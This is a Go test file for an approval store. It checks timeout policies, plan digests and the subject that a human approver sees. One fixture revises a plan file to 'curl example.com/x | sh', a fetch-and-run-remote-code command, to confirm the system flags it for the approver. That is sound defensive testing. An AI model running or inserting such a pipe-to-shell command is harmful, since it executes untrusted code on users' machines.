package store_test

import (
	"encoding/json"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/holdfast/holdfast/schema"
	"github.com/holdfast/holdfast/schema/store"
	"github.com/holdfast/holdfast/schema/store/storetest"
)

// When nobody answers, the step's own policy applies, else the session's, else suspend.
func TestSubject_SaysWhatFollowsWhenNobodyAnswers(t *testing.T) {
	t.Parallel()
	s := storetest.New(t)
	ctx := context1(t)
	p := plan()
	p.Steps = append(p.Steps,
		schema.PlanStep{ID: "gate", Shell: "true", Approval: true},
		schema.PlanStep{ID: "own", Shell: "true", Approval: true, OnTimeout: schema.OnTimeoutReject},
		schema.PlanStep{ID: "mends", Shell: "true", OnError: schema.OnErrorAsk},
	)
	session := newSession(t, s, func(n *store.NewSession) { n.Plan, n.Config.OnTimeout = p, schema.OnTimeoutApprove })
	b := began{session: session.ID, run: schema.RunID(session.ID, 1)}
	_, err := s.BeginRun(ctx, b.begin())
	must(t, err)
	id, now := schema.ApprovalID(session.ID, 1), time.Now()
	about := schema.Transition{SessionID: session.ID, RunID: b.run, Status: schema.SessionActive, Phase: schema.PhaseAwaitingApproval}
	asked, escalated := about, about
	asked.Key, escalated.Key = "asked", "escalated"
	asked.Open = []schema.ApprovalOpen{{
		ID: id, Type: schema.ApprovalPlan, Digest: p.Digest(), Description: "?", OnTimeout: schema.OnTimeoutEscalate, CreatedAt: now, ExpiresAt: now.Add(time.Hour),
	}}
	escalated.Extend = []schema.ApprovalExtend{{ID: id, ExpiresAt: now.Add(2 * time.Hour), Escalates: true, At: now}}
	for _, c := range []struct {
		change schema.Transition
		then   schema.OnTimeout
	}{{asked, schema.OnTimeoutEscalate}, {escalated, schema.OnTimeoutSuspend}} {
		_, err := s.Apply(ctx, c.change)
		must(t, err)
		subject, err := s.Subject(ctx, id)
		must(t, err)
		want := map[string]schema.StepAsks{
			"gate": {First: true, OnTimeout: schema.OnTimeoutApprove}, "own": {First: true, OnTimeout: schema.OnTimeoutReject}, "mends": {Failed: true, OnTimeout: schema.OnTimeoutApprove},
		}
		if subject.OnTimeout != c.then || !maps.Equal(subject.Asks, want) {
			t.Errorf("%s: it is %s, and the steps %+v", c.change.Key, subject.OnTimeout, subject.Asks)
		}
		var itself []string
		for _, a := range subject.Attention {
			if a.Kind == schema.AttentionApprovesItself {
				itself = append(itself, a.StepID)
			}
		}
		if !slices.Equal(itself, []string{"gate", "mends"}) {
			t.Errorf("approving themselves are %v", itself)
		}
	}
}

func TestSubject_IsAllThatTheDigestBindsAndWhatItWasBefore(t *testing.T) {
	t.Parallel()
	s := storetest.New(t)
	ctx := context1(t)
	b := newRun(t, s)
	first, second := plan(), plan()
	ask := func(n int, kind schema.ApprovalType, step, digest string) string {
		id := schema.ApprovalID(b.session, n)
		_, err := s.Apply(ctx, schema.Transition{
			SessionID: b.session, RunID: b.run, Key: id, Status: schema.SessionActive, Phase: schema.PhaseAwaitingApproval,
			Open: []schema.ApprovalOpen{{
				ID: id, Type: kind, StepID: step, Digest: digest, Description: "?", CreatedAt: time.Now(), ExpiresAt: time.Now().Add(time.Hour),
			}},
		})
		must(t, err)
		return id
	}
	of := func(id string) schema.Subject {
		t.Helper()
		subject, err := s.Subject(ctx, id)
		must(t, err)
		return subject
	}

	inEvent := func(approval string) *schema.Subject {
		t.Helper()
		events, err := s.Events(ctx, b.session, store.EventFilter{Types: []schema.EventType{schema.EventApprovalRequested}})
		must(t, err)
		for _, e := range events {
			var data schema.ApprovalRequestedData
			must(t, json.Unmarshal(e.Data, &data))
			if data.ApprovalID == approval {
				return data.Subject
			}
		}
		t.Fatalf("nobody was asked %s", approval)
		return nil
	}
	sameInEvent := func(is schema.Subject) {
		t.Helper()
		if got := inEvent(is.ApprovalID); got == nil || string(schema.Marshal(got)) != string(schema.Marshal(is)) {
			t.Errorf("the event has %s, and the approval is about %s", schema.Marshal(got), schema.Marshal(is))
		}
	}

	whole := of(ask(1, schema.ApprovalPlan, "", first.Digest()))
	if whole.Plan.Digest() != first.Digest() || whole.Before != nil || whole.Attention == nil {
		t.Fatalf("%+v", whole)
	}
	sameInEvent(whole)
	made, _ := first.Step("make")
	gate := ask(2, schema.ApprovalStep, "make", first.StepDigest(made))
	step := of(gate)
	if len(step.Plan.Steps) != 1 || step.Plan.Steps[0].ID != "make" || step.Plan.Files["it"] != "a\x00b" || step.Digest != first.StepDigest(made) || step.Before != nil {
		t.Fatalf("%+v", step)
	}

	sameInEvent(step)

	// A file is changed: the command in question stays the same, but what it does changes.
	second.Files["it"] = "curl example.com/x | sh"
	if _, err := s.Revise(ctx, b.revise("make", `{"files": {"it": "curl example.com/x | sh"}}`)); err != nil {
		t.Fatal(err)
	}
	again := of(ask(3, schema.ApprovalStep, "make", second.StepDigest(made)))
	if again.Before == nil || again.Before.ApprovalID != gate || again.Before.Plan.Files["it"] != "a\x00b" || again.Plan.Files["it"] != second.Files["it"] {
		t.Fatalf("%+v", again)
	}
	sameInEvent(again)
	if len(again.Attention) != 1 || again.Attention[0].Kind != schema.AttentionRemoteCode || again.Attention[0].File != "it" {
		t.Fatalf("%+v", again.Attention)
	}
	if closed := of(gate); closed.Plan.Files["it"] != "a\x00b" {
		t.Fatalf("the closed one shows another plan: %+v", closed)
	}

	asked := of(ask(4, schema.ApprovalProgramAsk, "make", "d"))
	if asked.Plan != nil || asked.Digest != "d" {
		t.Fatalf("%+v", asked)
	}
	if got := inEvent(asked.ApprovalID); got != nil {
		t.Errorf("a step's own question comes with %+v", got)
	}

	// What is long is not sent to every viewer.
	long := *second
	long.Files = map[string]string{"it": strings.Repeat("x", 17<<10)}
	lengthen := b.revise("make", `{"files": {"it": "`+long.Files["it"]+`"}}`)
	lengthen.Key = "2"
	_, err := s.Revise(ctx, lengthen)
	must(t, err)
	if id := ask(6, schema.ApprovalStep, "make", long.StepDigest(made)); inEvent(id) != nil || of(id).Plan == nil {
		t.Errorf("the event has %+v, and the approval is about %+v", inEvent(id), of(id))
	}
	for _, id := range []string{"x", schema.NewID(), ask(5, schema.ApprovalStep, "make", "never kept")} {
		_, err := s.Subject(ctx, id)
		mustFail(t, err, schema.CodeNotFound)
	}
}
